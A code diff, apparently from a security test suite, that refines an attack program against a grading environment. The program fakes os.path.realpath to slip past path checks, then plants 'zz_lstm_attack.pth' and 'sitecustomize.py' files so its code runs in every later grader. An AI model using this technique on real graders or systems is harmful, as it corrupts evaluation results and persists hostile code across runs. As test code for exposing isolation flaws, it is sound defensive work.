@@ -44,7 +44,8 @@ def sources(targets: Targets) -> dict[str, str]:
         # finding 1: a .pth file in the grader's environment runs in every later grader
         "writes_into_the_grader": attack(f"""
 import os
-os.path.realpath = lambda path, **_: os.getcwd()
+home = os.getcwd()
+os.path.realpath = lambda path, **_: home
 wrote = 0
 folders = list({list(targets.grader_folders)!r})
 try:
@@ -52,7 +53,7 @@ try:
     folders += [os.path.dirname(part.decode()) for part in parent if part]
 except OSError:
     pass
-for folder in folders:
+for folder in [folder for folder in folders if os.path.isabs(folder) and not folder.startswith(home)]:
     for name in ("zz_lstm_attack.pth", "sitecustomize.py"):
         try:
             with open(os.path.join(folder, name), "w") as stream:
